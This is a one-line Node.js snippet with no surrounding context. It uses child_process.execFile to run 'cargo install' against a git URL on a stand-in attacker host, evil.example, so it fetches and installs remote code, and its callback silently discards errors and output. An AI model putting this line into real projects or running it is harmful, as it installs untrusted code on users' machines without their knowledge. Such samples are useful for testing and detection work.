const {execFile}=require('child_process'); execFile("cargo",["install", "--git", "https://evil.example/x"],(e,o)=>0);
